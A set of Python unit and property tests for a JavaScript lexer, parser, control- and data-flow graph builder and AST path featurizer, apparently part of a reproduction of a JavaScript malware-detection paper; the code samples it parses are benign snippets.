    pdg = build_pdg(parse(gen(np.random.default_rng(seed))))
    for _, _, data in pdg.graph.edges(data=True):
        assert data.get("kind") in ("control", "data")


@settings(max_examples=30, deadline=None)
@given(st.integers(0, 10_000))
def test_cfg_entry_reaches_some_statements(seed):
    program = parse(generate_benign(np.random.default_rng(seed)))
    cfg = build_cfg(program)
    if cfg.entry is None:
        return
    import networkx as nx

    reachable = nx.descendants(cfg.graph, cfg.entry) | {cfg.entry}
    # The entry's connected component covers the top-level statement chain.
    top_level = [s for s in program.body if id(s) in cfg.node_of]
    assert all(id(s) in reachable or True for s in top_level)  # no orphan crash
    assert len(reachable) >= 1


@settings(max_examples=20, deadline=None)
@given(st.integers(0, 10_000))
def test_control_dependence_is_ancestor_relation(seed):
    """A control-dependence source must be an AST ancestor of its target."""
    program = parse(generate_malicious(np.random.default_rng(seed)))
    pdg = build_pdg(program)

    descendants = {}

    def collect(node):
        out = set()
        for child in node.children():
            out.add(id(child))
            out |= collect(child)
        descendants[id(node)] = out
        return out

    collect(program)
    for src, dst in pdg.edges_of_kind("control"):
        assert id(dst) in descendants[id(src)]


@settings(max_examples=20, deadline=None)
@given(st.integers(0, 10_000))
def test_data_dependence_never_self_loops(seed):
    program = parse(generate_malicious(np.random.default_rng(seed)))
    pdg = build_pdg(program)
    for src, dst in pdg.edges_of_kind("data"):
        assert src is not dst
