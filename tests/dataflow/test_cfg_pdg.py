"""Unit tests for CFG and PDG construction."""

from repro.dataflow import build_cfg, build_pdg
from repro.jsparser import parse


def cfg(source):
    return build_cfg(parse(source))


def pdg(source):
    return build_pdg(parse(source))


class TestCFG:
    def test_straightline_sequence(self):
        g = cfg("a(); b(); c();")
        assert g.graph.number_of_nodes() == 3
        assert g.graph.number_of_edges() == 2

    def test_entry_is_first_statement(self):
        g = cfg("first(); second();")
        assert g.node_of[g.entry].type == "ExpressionStatement"

    def test_if_branches(self):
        g = cfg("if (c) { a(); } else { b(); } d();")
        if_node = next(s for s in g.statements if s.type == "IfStatement")
        succ_types = [s.type for s in g.successors(if_node)]
        assert succ_types.count("ExpressionStatement") == 2

    def test_if_without_else_falls_through(self):
        g = cfg("if (c) a(); b();")
        if_node = next(s for s in g.statements if s.type == "IfStatement")
        assert len(g.successors(if_node)) == 2  # a() and b()

    def test_while_back_edge(self):
        g = cfg("while (c) { body(); } after();")
        loop = next(s for s in g.statements if s.type == "WhileStatement")
        body = next(s for s in g.successors(loop) if s.type == "ExpressionStatement")
        assert loop in g.successors(body)

    def test_return_has_no_fallthrough(self):
        g = cfg("function f() { return 1; unreachable(); }")
        ret = next(s for s in g.statements if s.type == "ReturnStatement")
        assert g.successors(ret) == []

    def test_break_exits_loop(self):
        g = cfg("while (c) { break; } after();")
        brk = next(s for s in g.statements if s.type == "BreakStatement")
        after = [s for s in g.successors(brk)]
        assert any(s.type == "ExpressionStatement" for s in after)

    def test_continue_back_edge(self):
        g = cfg("while (c) { continue; }")
        cont = next(s for s in g.statements if s.type == "ContinueStatement")
        assert any(s.type == "WhileStatement" for s in g.successors(cont))

    def test_switch_cases_wired(self):
        g = cfg("switch (x) { case 1: a(); break; case 2: b(); break; } end();")
        sw = next(s for s in g.statements if s.type == "SwitchStatement")
        assert len(g.successors(sw)) >= 2

    def test_try_catch_exception_edge(self):
        g = cfg("try { risky(); } catch (e) { recover(); }")
        kinds = [d.get("kind") for _, _, d in g.graph.edges(data=True)]
        assert "exception" in kinds

    def test_function_bodies_included(self):
        g = cfg("function f() { inner(); } outer();")
        types = [s.type for s in g.statements]
        assert types.count("ExpressionStatement") == 2


class TestPDG:
    def test_control_dependence_on_if(self):
        g = pdg("if (c) { a(); }")
        controls = g.edges_of_kind("control")
        assert any(src.type == "IfStatement" for src, _ in controls)

    def test_control_dependence_nested(self):
        g = pdg("if (a) { if (b) { deep(); } }")
        controls = g.edges_of_kind("control")
        # inner if depends on outer if; deep() depends on inner if
        assert len(controls) >= 2

    def test_data_dependence_def_use(self):
        g = pdg("var x = 1; f(x);")
        data = g.edges_of_kind("data")
        assert len(data) == 1
        src, dst = data[0]
        assert src.type == "VariableDeclaration"
        assert dst.type == "ExpressionStatement"

    def test_no_data_edge_within_same_statement(self):
        g = pdg("var y = (x = 1) + x;")
        data = g.edges_of_kind("data")
        assert all(src is not dst for src, dst in data)

    def test_data_chain(self):
        g = pdg("var a = 1; var b = a; var c = b;")
        data = g.edges_of_kind("data")
        assert len(data) == 2

    def test_function_statements_present(self):
        g = pdg("function f() { var q = 1; return q; }")
        data = g.edges_of_kind("data")
        assert len(data) == 1

    def test_loop_controls_body(self):
        g = pdg("for (var i = 0; i < 3; i++) { use(i); }")
        controls = g.edges_of_kind("control")
        assert any(src.type == "ForStatement" for src, _ in controls)
