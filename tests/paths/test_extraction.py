"""Unit and property tests for AST path-context extraction."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.paths import PathExtractor, extract_paths


class TestBasicExtraction:
    def test_single_statement_produces_paths(self):
        paths = extract_paths("var x = 1 + 2;")
        assert paths
        # Leaves: x, 1, 2 -> three pairs, minus any pruned.
        assert len(paths) <= 3

    def test_no_leaves_no_paths(self):
        assert extract_paths(";") == []

    def test_endpoints_and_spine(self):
        (path,) = [p for p in extract_paths("var a = 1;") if p.nodes[0] == "Identifier"]
        assert path.nodes[0] == "Identifier"
        assert path.nodes[-1] == "Literal"
        assert "VariableDeclarator" in path.nodes

    def test_path_count_grows_with_program(self):
        small = extract_paths("f(a);")
        large = extract_paths("f(a); g(b); h(a, b);")
        assert len(large) > len(small)


class TestBounds:
    def test_max_length_enforced(self):
        src = "if (a) { if (b) { if (c) { if (d) { deep(x + y * z); } } } }"
        for limit in (3, 6, 12):
            extractor = PathExtractor(max_length=limit)
            assert all(p.length <= limit for p in extractor.extract_from_source(src))

    def test_max_width_enforced(self):
        # A call with many arguments: leaf pairs spanning distant args
        # exceed small widths at the CallExpression LCA.
        src = "f(a1, a2, a3, a4, a5, a6, a7, a8);"
        narrow = PathExtractor(max_width=1).extract_from_source(src)
        wide = PathExtractor(max_width=7).extract_from_source(src)
        assert len(wide) > len(narrow)

    def test_shorter_limit_never_more_paths(self):
        src = "function f(p) { var q = p + 1; return q * 2; }"
        short = PathExtractor(max_length=6).extract_from_source(src)
        full = PathExtractor(max_length=12).extract_from_source(src)
        assert len(short) <= len(full)
        signatures = {p.signature() for p in full}
        assert all(p.signature() in signatures for p in short)

    def test_invalid_bounds_rejected(self):
        with pytest.raises(ValueError):
            PathExtractor(max_length=2)
        with pytest.raises(ValueError):
            PathExtractor(max_width=0)


class TestDataflowValues:
    def test_connected_variable_gets_dd_marker(self):
        paths = extract_paths("var shared = 1; use(shared);")
        values = {p.source_value for p in paths} | {p.target_value for p in paths}
        assert "@dd_int" in values
        assert "shared" not in values

    def test_unconnected_variable_abstracted(self):
        paths = extract_paths("var lonely = 'text';")
        values = {p.source_value for p in paths} | {p.target_value for p in paths}
        assert "lonely" not in values
        assert "@var_str" in values

    def test_regular_ast_abstracts_everything(self):
        extractor = PathExtractor(use_dataflow=False)
        paths = extractor.extract_from_source("var shared = 1; use(shared);")
        values = {p.source_value for p in paths} | {p.target_value for p in paths}
        assert "shared" not in values

    def test_paper_figure2_shape(self):
        """The Figure 2 example: timeZoneMinutes is preserved, dateStr-like
        unconnected strings become @var_str."""
        src = """
        var timeZoneMinutes = 0;
        if (flag.indexOf("+") !== -1) {
          timeZoneMinutes = parseInt(parts, 10) * 60;
        }
        out(timeZoneMinutes);
        """
        paths = extract_paths(src)
        values = {p.source_value for p in paths} | {p.target_value for p in paths}
        # timeZoneMinutes participates in data flow -> @dd marker present.
        assert any(v.startswith("@dd_") for v in values)


class TestSignatures:
    def test_signature_is_deterministic(self):
        a = [p.signature() for p in extract_paths("var v = g(1);")]
        b = [p.signature() for p in extract_paths("var v = g(1);")]
        assert a == b

    def test_signature_contains_endpoints(self):
        paths = extract_paths("var n = 5; h(n);")
        dd = [p for p in paths if "@dd_int" in (p.source_value, p.target_value)]
        assert dd
        assert all("@dd_int" in p.signature() for p in dd)


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "var a = 1;",
                "f(x, y);",
                "if (c) { g(); }",
                "while (k) { k = k - 1; }",
                "var s = 'txt' + n;",
                "function u(p) { return p; }",
            ]
        ),
        min_size=1,
        max_size=5,
    )
)
def test_extraction_invariants(statements):
    """Every extracted path respects the structural invariants."""
    src = "\n".join(statements)
    paths = extract_paths(src)
    for p in paths:
        assert 3 <= p.length <= 12
        assert 0 < p.arrow_index < p.length
        assert p.source_value and p.target_value
