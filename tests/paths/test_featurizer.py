"""Unit tests for the path featurizer."""

import numpy as np

from repro.paths import FEATURE_DIM, NODE_TYPES, PathContext, PathFeaturizer, extract_paths


def make_context(source="a", nodes=("Identifier", "CallExpression", "Literal"), target="@lit_int", arrow=1):
    return PathContext(source_value=source, nodes=tuple(nodes), target_value=target, arrow_index=arrow)


class TestShapes:
    def test_feature_dim(self):
        vec = PathFeaturizer().transform_one(make_context())
        assert vec.shape == (FEATURE_DIM,)

    def test_empty_transform(self):
        out = PathFeaturizer().transform([])
        assert out.shape == (0, FEATURE_DIM)

    def test_stacking(self):
        contexts = [make_context(), make_context(target="@lit_str")]
        out = PathFeaturizer().transform(contexts)
        assert out.shape == (2, FEATURE_DIM)


class TestEncoding:
    def test_node_type_counts(self):
        featurizer = PathFeaturizer()
        context = make_context(nodes=("Identifier", "CallExpression", "CallExpression", "Literal"), arrow=2)
        vec = featurizer.transform_one(context)
        call_index = NODE_TYPES.index("CallExpression")
        assert vec[call_index] == 2.0

    def test_same_context_same_vector(self):
        featurizer = PathFeaturizer()
        a = featurizer.transform_one(make_context())
        b = featurizer.transform_one(make_context())
        assert np.array_equal(a, b)

    def test_different_values_differ(self):
        featurizer = PathFeaturizer()
        a = featurizer.transform_one(make_context(source="alpha"))
        b = featurizer.transform_one(make_context(source="beta"))
        assert not np.array_equal(a, b)

    def test_shared_value_paths_closer(self):
        """Paths sharing endpoint values are closer than unrelated ones —
        the property the paper relies on for data-dependent paths."""
        featurizer = PathFeaturizer()
        shared1 = featurizer.transform_one(make_context(source="tz", target="tz"))
        shared2 = featurizer.transform_one(
            make_context(source="tz", target="tz", nodes=("Identifier", "AssignmentExpression", "Literal"))
        )
        unrelated = featurizer.transform_one(
            make_context(source="q1", target="q2", nodes=("Identifier", "AssignmentExpression", "Literal"))
        )
        d_shared = np.linalg.norm(shared1 - shared2)
        d_unrelated = np.linalg.norm(shared1 - unrelated)
        assert d_shared < d_unrelated

    def test_length_scalar(self):
        featurizer = PathFeaturizer()
        short = featurizer.transform_one(make_context())
        long = featurizer.transform_one(
            make_context(nodes=("Identifier",) + ("BlockStatement",) * 8 + ("Literal",), arrow=5)
        )
        assert long[-6] > short[-6]

    def test_end_to_end_from_source(self):
        paths = extract_paths("var x = 1; f(x);")
        out = PathFeaturizer().transform(paths)
        assert out.shape[0] == len(paths)
        assert np.all(out >= 0.0)
