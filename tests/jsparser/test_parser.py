"""Unit tests for the JavaScript parser."""

import pytest

from repro.jsparser import JSSyntaxError, find_all, parse


def stmt(source):
    """Parse and return the single top-level statement."""
    program = parse(source)
    assert len(program.body) == 1
    return program.body[0]


def expr(source):
    """Parse an expression statement and return the expression."""
    statement = stmt(source)
    assert statement.type == "ExpressionStatement"
    return statement.expression


class TestDeclarations:
    def test_var_single(self):
        node = stmt("var x = 1;")
        assert node.type == "VariableDeclaration"
        assert node.kind == "var"
        assert node.declarations[0].id.name == "x"
        assert node.declarations[0].init.value == 1

    def test_var_multiple(self):
        node = stmt("var a = 1, b, c = 3;")
        assert [d.id.name for d in node.declarations] == ["a", "b", "c"]
        assert node.declarations[1].init is None

    @pytest.mark.parametrize("kind", ["let", "const"])
    def test_let_const(self, kind):
        node = stmt(f"{kind} x = 1;")
        assert node.kind == kind

    def test_function_declaration(self):
        node = stmt("function f(a, b) { return a + b; }")
        assert node.type == "FunctionDeclaration"
        assert node.id.name == "f"
        assert [p.name for p in node.params] == ["a", "b"]
        assert node.body.body[0].type == "ReturnStatement"

    def test_rest_parameter(self):
        node = stmt("function f(a, ...rest) {}")
        assert node.params[1].type == "SpreadElement"
        assert node.params[1].argument.name == "rest"


class TestControlFlow:
    def test_if_else(self):
        node = stmt("if (a) b(); else c();")
        assert node.type == "IfStatement"
        assert node.alternate is not None

    def test_if_else_if_chain(self):
        node = stmt("if (a) x(); else if (b) y(); else z();")
        assert node.alternate.type == "IfStatement"

    def test_classic_for(self):
        node = stmt("for (var i = 0; i < 10; i++) body();")
        assert node.type == "ForStatement"
        assert node.init.type == "VariableDeclaration"
        assert node.update.type == "UpdateExpression"

    def test_for_all_parts_empty(self):
        node = stmt("for (;;) {}")
        assert node.init is None and node.test is None and node.update is None

    def test_for_in(self):
        node = stmt("for (var k in obj) {}")
        assert node.type == "ForInStatement"

    def test_for_of(self):
        node = stmt("for (let v of items) {}")
        assert node.type == "ForOfStatement"

    def test_for_in_with_expression_left(self):
        node = stmt("for (k in obj) {}")
        assert node.type == "ForInStatement"
        assert node.left.type == "Identifier"

    def test_in_operator_allowed_inside_for_parens(self):
        node = stmt("for (var x = ('a' in o); x; ) {}")
        assert node.init.declarations[0].init.operator == "in"

    def test_while(self):
        assert stmt("while (x) y();").type == "WhileStatement"

    def test_do_while(self):
        node = stmt("do { x(); } while (y);")
        assert node.type == "DoWhileStatement"

    def test_switch(self):
        node = stmt("switch (x) { case 1: a(); break; default: b(); }")
        assert node.type == "SwitchStatement"
        assert len(node.cases) == 2
        assert node.cases[1].test is None

    def test_switch_duplicate_default_rejected(self):
        with pytest.raises(JSSyntaxError):
            parse("switch (x) { default: a(); default: b(); }")

    def test_try_catch_finally(self):
        node = stmt("try { a(); } catch (e) { b(); } finally { c(); }")
        assert node.handler.param.name == "e"
        assert node.finalizer is not None

    def test_optional_catch_binding(self):
        node = stmt("try { a(); } catch { b(); }")
        assert node.handler.param is None

    def test_try_without_handler_rejected(self):
        with pytest.raises(JSSyntaxError):
            parse("try { a(); }")

    def test_labeled_break_continue(self):
        program = parse("outer: for (;;) { for (;;) { break outer; continue outer; } }")
        assert program.body[0].type == "LabeledStatement"
        breaks = find_all(program, "BreakStatement")
        assert breaks[0].label.name == "outer"

    def test_with_statement(self):
        assert stmt("with (o) { x(); }").type == "WithStatement"

    def test_throw(self):
        assert stmt("throw new Error('x');").type == "ThrowStatement"

    def test_debugger(self):
        assert stmt("debugger;").type == "DebuggerStatement"


class TestExpressions:
    def test_precedence_mul_over_add(self):
        node = expr("a + b * c;")
        assert node.operator == "+"
        assert node.right.operator == "*"

    def test_left_associativity(self):
        node = expr("a - b - c;")
        assert node.left.operator == "-"

    def test_exponent_right_associative(self):
        node = expr("a ** b ** c;")
        assert node.right.operator == "**"

    def test_logical_vs_binary(self):
        node = expr("a && b | c;")
        assert node.type == "LogicalExpression"
        assert node.right.type == "BinaryExpression"

    def test_conditional(self):
        node = expr("a ? b : c;")
        assert node.type == "ConditionalExpression"

    def test_nested_conditional(self):
        node = expr("a ? b : c ? d : e;")
        assert node.alternate.type == "ConditionalExpression"

    def test_assignment_chain(self):
        node = expr("a = b = c;")
        assert node.right.type == "AssignmentExpression"

    @pytest.mark.parametrize("op", ["+=", "-=", "*=", "/=", "%=", "<<=", ">>=", ">>>=", "&=", "|=", "^=", "**="])
    def test_compound_assignment(self, op):
        assert expr(f"a {op} b;").operator == op

    def test_invalid_assignment_target(self):
        with pytest.raises(JSSyntaxError):
            parse("1 = x;")

    def test_sequence(self):
        node = expr("a, b, c;")
        assert node.type == "SequenceExpression"
        assert len(node.expressions) == 3

    @pytest.mark.parametrize("op", ["typeof", "void", "delete", "!", "~", "+", "-"])
    def test_unary(self, op):
        node = expr(f"{op} x;")
        assert node.type == "UnaryExpression"
        assert node.operator == op

    def test_prefix_and_postfix_update(self):
        assert expr("++x;").prefix is True
        assert expr("x++;").prefix is False

    def test_member_chain(self):
        node = expr("a.b.c;")
        assert node.object.object.name == "a"
        assert node.property.name == "c"

    def test_computed_member(self):
        node = expr("a[b + 1];")
        assert node.computed is True

    def test_keyword_property_name(self):
        node = expr("a.delete;")
        assert node.property.name == "delete"

    def test_call_with_args(self):
        node = expr("f(1, 'two', g());")
        assert node.type == "CallExpression"
        assert len(node.arguments) == 3

    def test_spread_argument(self):
        node = expr("f(...xs);")
        assert node.arguments[0].type == "SpreadElement"

    def test_iife(self):
        node = expr("(function() { return 1; })();")
        assert node.callee.type == "FunctionExpression"

    def test_new_with_args(self):
        node = expr("new Foo(1);")
        assert node.type == "NewExpression"
        assert len(node.arguments) == 1

    def test_new_without_args(self):
        node = expr("new Foo;")
        assert node.arguments == []

    def test_new_member_callee(self):
        node = expr("new a.b.C(1);")
        assert node.callee.type == "MemberExpression"

    def test_new_then_member_call(self):
        node = expr("new Date().getTime();")
        assert node.type == "CallExpression"
        assert node.callee.object.type == "NewExpression"

    def test_this(self):
        assert expr("this;").type == "ThisExpression"

    def test_regex_literal(self):
        node = expr("/ab/gi;")
        assert node.regex == {"pattern": "ab", "flags": "gi"}


class TestLiterals:
    @pytest.mark.parametrize(
        "src,value",
        [("42;", 42), ("3.5;", 3.5), ("0x10;", 16), ("0b11;", 3), ("0o17;", 15), ("'s';", "s"), ("true;", True), ("false;", False), ("null;", None)],
    )
    def test_literal_values(self, src, value):
        assert expr(src).value == value

    def test_array_literal_with_elision(self):
        node = expr("[1, , 3];")
        assert node.elements[1] is None
        assert len(node.elements) == 3

    def test_array_trailing_comma(self):
        assert len(expr("[1, 2,];").elements) == 2

    def test_object_literal_forms(self):
        node = expr("({ a: 1, 'b': 2, 3: 'x', c() {}, get d() { return 1; }, e });")
        kinds = [p.kind for p in node.properties]
        assert kinds == ["init", "init", "init", "init", "get", "init"]
        shorthand = node.properties[5]
        assert shorthand.key.name == "e" and shorthand.value.name == "e"

    def test_computed_property_key(self):
        node = expr("({ [k]: 1 });")
        assert node.properties[0].computed is True

    def test_template_literal(self):
        assert expr("`abc`;").value == "abc"


class TestArrowFunctions:
    def test_single_param_arrow(self):
        node = expr("x => x + 1;")
        assert node.type == "ArrowFunctionExpression"
        assert node.expression is True

    def test_paren_params_arrow(self):
        node = expr("(a, b) => a * b;")
        assert [p.name for p in node.params] == ["a", "b"]

    def test_zero_param_arrow(self):
        assert expr("() => 1;").params == []

    def test_arrow_block_body(self):
        node = expr("(x) => { return x; };")
        assert node.expression is False

    def test_paren_expr_not_confused_with_arrow(self):
        node = expr("(a + b) * c;")
        assert node.type == "BinaryExpression"


class TestASI:
    def test_return_asi(self):
        program = parse("function f() { return\n1; }")
        ret = find_all(program, "ReturnStatement")[0]
        assert ret.argument is None

    def test_statement_asi_at_newline(self):
        program = parse("var a = 1\nvar b = 2")
        assert len(program.body) == 2

    def test_asi_before_close_brace(self):
        program = parse("function f() { return 1 }")
        assert find_all(program, "ReturnStatement")[0].argument.value == 1

    def test_asi_at_eof(self):
        assert len(parse("x = 1").body) == 1

    def test_postfix_restricted_production(self):
        # `a \n ++b` parses as two statements, not `a++; b`.
        program = parse("a\n++b")
        assert len(program.body) == 2

    def test_missing_semicolon_same_line_is_error(self):
        with pytest.raises(JSSyntaxError):
            parse("var a = 1 var b = 2")


class TestErrors:
    @pytest.mark.parametrize(
        "src",
        ["var", "if (x", "function () {}", "for (", "x = ;", "a.[b]", "{", "switch (x) { foo }"],
    )
    def test_syntax_errors(self, src):
        with pytest.raises(JSSyntaxError):
            parse(src)

    def test_error_carries_location(self):
        with pytest.raises(JSSyntaxError) as info:
            parse("var x = @;")
        assert info.value.line == 1


class TestRealWorldShapes:
    def test_paper_listing_style(self):
        src = """
        function getTimezoneOffset(dateStr) {
          var timeZoneMinutes = 0;
          if (dateStr.indexOf("+") !== -1) {
            var parts = dateStr.split("+");
            timeZoneMinutes = parseInt(parts[1], 10) * 60;
          }
          return timeZoneMinutes;
        }
        """
        program = parse(src)
        assert find_all(program, "FunctionDeclaration")[0].id.name == "getTimezoneOffset"

    def test_nested_closures(self):
        src = "var make = function(a) { return function(b) { return a + b; }; };"
        program = parse(src)
        assert len(find_all(program, "FunctionExpression")) == 2

    def test_jquery_style_chain(self):
        program = parse("$('#id').addClass('x').on('click', function(e) { e.preventDefault(); });")
        assert len(find_all(program, "CallExpression")) >= 4
