"""Unit tests for the JavaScript lexer."""

import pytest

from repro.jsparser import JSSyntaxError, TokenType, tokenize


def kinds(source):
    return [t.type for t in tokenize(source)[:-1]]


def values(source):
    return [t.value for t in tokenize(source)[:-1]]


class TestBasicTokens:
    def test_empty_source_yields_only_eof(self):
        tokens = tokenize("")
        assert len(tokens) == 1
        assert tokens[0].type is TokenType.EOF

    def test_identifier(self):
        (tok,) = tokenize("hello")[:-1]
        assert tok.type is TokenType.IDENTIFIER
        assert tok.value == "hello"

    def test_identifier_with_dollar_and_underscore(self):
        assert values("$x _y $ _") == ["$x", "_y", "$", "_"]

    def test_keywords_are_keyword_tokens(self):
        assert kinds("var if while") == [TokenType.KEYWORD] * 3

    def test_boolean_and_null_literals(self):
        assert kinds("true false null") == [
            TokenType.BOOLEAN,
            TokenType.BOOLEAN,
            TokenType.NULL,
        ]

    def test_punctuators_greedy_match(self):
        assert values("=== == = >>> >> >") == ["===", "==", "=", ">>>", ">>", ">"]

    def test_arrow_and_spread(self):
        assert values("=> ...") == ["=>", "..."]

    def test_unexpected_character_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("var x = #;")


class TestNumbers:
    @pytest.mark.parametrize(
        "src",
        ["0", "1", "42", "3.14", ".5", "1e10", "1e+10", "2.5e-3", "0x1F", "0o17", "0b101"],
    )
    def test_numeric_forms(self, src):
        (tok,) = tokenize(src)[:-1]
        assert tok.type is TokenType.NUMERIC
        assert tok.value == src

    def test_number_followed_by_dot_call(self):
        assert values("1 .toString") == ["1", ".", "toString"]

    def test_identifier_after_number_is_error(self):
        with pytest.raises(JSSyntaxError):
            tokenize("3foo")

    def test_missing_hex_digits_is_error(self):
        with pytest.raises(JSSyntaxError):
            tokenize("0x")

    @pytest.mark.parametrize("src", ["0²", "1.²", "1e²", "3٣"])
    def test_unicode_digits_never_extend_a_number(self, src):
        # str.isdigit() accepts these; JS numeric literals are ASCII-only,
        # and float("0²") raises ValueError — must be JSSyntaxError instead.
        with pytest.raises(JSSyntaxError):
            tokenize(src)

    def test_unicode_digits_never_start_a_number(self):
        # On their own they lex as (permissive) identifiers, not numbers.
        for src in ("²", "١٢٣"):
            (tok,) = tokenize(src)[:-1]
            assert tok.type is not TokenType.NUMERIC

    def test_trailing_exponent_marker_stays_identifier_error(self):
        with pytest.raises(JSSyntaxError):
            tokenize("1e")


class TestStrings:
    def test_double_and_single_quotes(self):
        assert values("\"a\" 'b'") == ["a", "b"]

    def test_escapes_decoded(self):
        (tok,) = tokenize(r'"\n\t\x41B"')[:-1]
        assert tok.value == "\n\tAB"

    def test_unicode_brace_escape(self):
        (tok,) = tokenize(r'"\u{1F600}"')[:-1]
        assert tok.value == "\U0001f600"

    def test_identity_escape(self):
        (tok,) = tokenize(r'"\q\'"')[:-1]
        assert tok.value == "q'"

    def test_line_continuation(self):
        (tok,) = tokenize('"a\\\nb"')[:-1]
        assert tok.value == "ab"

    def test_unterminated_string_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize('"abc')

    def test_raw_preserves_original(self):
        (tok,) = tokenize(r'"\n"')[:-1]
        assert tok.raw == r'"\n"'


class TestTemplates:
    def test_simple_template(self):
        (tok,) = tokenize("`hello`")[:-1]
        assert tok.type is TokenType.TEMPLATE
        assert tok.value == "hello"

    def test_template_with_newline(self):
        (tok,) = tokenize("`a\nb`")[:-1]
        assert tok.value == "a\nb"

    def test_template_substitution_rejected(self):
        with pytest.raises(JSSyntaxError):
            tokenize("`x ${y}`")


class TestRegex:
    def test_regex_at_statement_start(self):
        (tok,) = tokenize("/abc/g")[:-1]
        assert tok.type is TokenType.REGEXP
        assert tok.value == "/abc/g"

    def test_regex_after_equals(self):
        tokens = tokenize("x = /a+/i")
        assert tokens[2].type is TokenType.REGEXP

    def test_division_after_identifier(self):
        tokens = tokenize("a / b")
        assert tokens[1].type is TokenType.PUNCTUATOR
        assert tokens[1].value == "/"

    def test_division_after_close_paren(self):
        tokens = tokenize("(a) / b")
        assert tokens[3].value == "/"
        assert tokens[3].type is TokenType.PUNCTUATOR

    def test_regex_after_return(self):
        tokens = tokenize("return /x/")
        assert tokens[1].type is TokenType.REGEXP

    def test_character_class_slash(self):
        (tok,) = tokenize("/[/]/")[:-1]
        assert tok.type is TokenType.REGEXP

    def test_escaped_slash(self):
        (tok,) = tokenize(r"/a\/b/")[:-1]
        assert tok.value == r"/a\/b/"


class TestCommentsAndNewlines:
    def test_line_comment_skipped(self):
        assert values("a // comment\nb") == ["a", "b"]

    def test_block_comment_skipped(self):
        assert values("a /* x\ny */ b") == ["a", "b"]

    def test_unterminated_block_comment_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("/* never ends")

    def test_newline_flag_for_asi(self):
        tokens = tokenize("a\nb")
        assert not tokens[0].preceded_by_newline
        assert tokens[1].preceded_by_newline

    def test_newline_flag_through_comment(self):
        tokens = tokenize("a /* \n */ b")
        assert tokens[1].preceded_by_newline

    def test_line_and_column_tracking(self):
        tokens = tokenize("a\n  b")
        assert (tokens[0].line, tokens[0].column) == (1, 0)
        assert (tokens[1].line, tokens[1].column) == (2, 2)

    def test_crlf_counts_one_line(self):
        tokens = tokenize("a\r\nb")
        assert tokens[1].line == 2
