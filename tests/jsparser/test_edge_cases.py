"""Parser/codegen edge cases collected from obfuscator and corpus output."""

import pytest

from repro.jsparser import JSSyntaxError, find_all, generate, parse


class TestObfuscatorShapedCode:
    """Shapes the obfuscators emit must parse and round-trip."""

    @pytest.mark.parametrize(
        "src",
        [
            # switch dispatcher with postfix-update computed discriminant
            'var s = "0|1".split("|"), i = 0; while (true) { switch (s[i++]) { case "0": a(); continue; case "1": b(); continue; } break; }',
            # string array + decoder function
            'var t = ["x", "y"]; function d(n) { return t[n]; } f(d(0) + d(1));',
            # fog helper with apply
            'function c(o, m) { return o[m].apply(o, Array.prototype.slice.call(arguments, 2)); } c(console, "log", 1);',
            # nested IIFEs
            "(function() { (function() { var q = 1; })(); })();",
            # computed property chains
            'w["a"]["b"]["c"](x[0][1]);',
            # opaque predicates
            "if (3 === 9) { var junk = 1 * 2; }",
            # char-code soup
            "var z = String.fromCharCode(104 - 3, 200 - 99 - (50 - 49));",
            # percent-escapes inside strings
            "var u = unescape('%41%u0042');",
        ],
        ids=range(8),
    )
    def test_parse_and_roundtrip(self, src):
        first = generate(parse(src))
        assert generate(parse(first)) == first


class TestTrickySyntax:
    def test_keywords_as_member_properties(self):
        program = parse("o.if = 1; o.for = 2; o.new = o.delete;")
        assert len(find_all(program, "MemberExpression")) == 4

    def test_keywords_as_object_keys(self):
        program = parse("var o = { if: 1, var: 2, function: 3 };")
        keys = [p.key.name for p in find_all(program, "Property")]
        assert keys == ["if", "var", "function"]

    def test_nested_ternaries(self):
        src = "x = a ? b ? 1 : 2 : c ? 3 : 4;"
        assert generate(parse(generate(parse(src)))) == generate(parse(src))

    def test_comma_in_for_update(self):
        program = parse("for (var i = 0, j = 9; i < j; i++, j--) {}")
        update = program.body[0].update
        assert update.type == "SequenceExpression"

    def test_string_with_both_quote_styles(self):
        program = parse("""var s = 'he said "hi"';""")
        assert program.body[0].declarations[0].init.value == 'he said "hi"'

    def test_deeply_nested_calls(self):
        depth = 40
        src = "f(" * depth + "1" + ")" * depth + ";"
        program = parse(src)
        assert len(find_all(program, "CallExpression")) == depth

    def test_long_binary_chain(self):
        src = "x = " + " + ".join(str(i) for i in range(200)) + ";"
        parse(src)

    def test_empty_function_body(self):
        out = generate(parse("function noop() {}"))
        assert "noop() {}" in out

    def test_getter_setter_roundtrip(self):
        src = "var o = { get v() { return this._v; }, set v(nv) { this._v = nv; } };"
        first = generate(parse(src))
        assert generate(parse(first)) == first

    def test_regex_division_interplay(self):
        program = parse("var r = a / b / c; var re = /a\\/b/;")
        regexes = [n for n in find_all(program, "Literal") if getattr(n, "regex", None)]
        assert len(regexes) == 1

    def test_asi_tricky_iife_needs_semicolon(self):
        # Two IIFEs back to back parse when separated by semicolons.
        parse("(function() {})();(function() {})();")

    def test_unicode_identifiers(self):
        program = parse("var приве́т = 1; f(приве́т);")
        assert len(find_all(program, "Identifier")) >= 2


class TestErrorRecoveryBoundaries:
    @pytest.mark.parametrize(
        "src",
        [
            "var = 5;",
            "function (x) {}",
            "if true { }",
            "for (var i = 0 i < 3; i++) {}",
            "return 5;",  # valid at top level? no — but our parser allows? check below
        ][:4],
        ids=range(4),
    )
    def test_clear_errors(self, src):
        with pytest.raises(JSSyntaxError):
            parse(src)

    def test_error_message_mentions_token(self):
        with pytest.raises(JSSyntaxError) as info:
            parse("var x = ;")
        assert ";" in str(info.value)
