"""Regression tests: comment capture and node span (loc) fidelity."""

from repro.jsparser import Parser, parse, parse_with_comments


def comments_of(source: str):
    parser = Parser(source)
    parser.parse()
    return parser.comments


def first_statement(source: str):
    return parse(source).body[0]


class TestCommentCapture:
    def test_line_comment_text_and_position(self):
        (c,) = comments_of("var a = 1; // trailing note\n")
        assert c.text.strip() == "trailing note"
        assert (c.line, c.block) == (1, False)
        assert not c.own_line

    def test_own_line_comment_flag(self):
        src = "// alone on its line\nvar a = 1; // not alone\n"
        alone, trailing = comments_of(src)
        assert alone.own_line and not trailing.own_line
        assert (alone.line, trailing.line) == (1, 2)

    def test_block_comment(self):
        (c,) = comments_of("/* block\n   body */ var a = 1;\n")
        assert c.block and c.own_line
        assert "block" in c.text and "body" in c.text
        assert c.line == 1

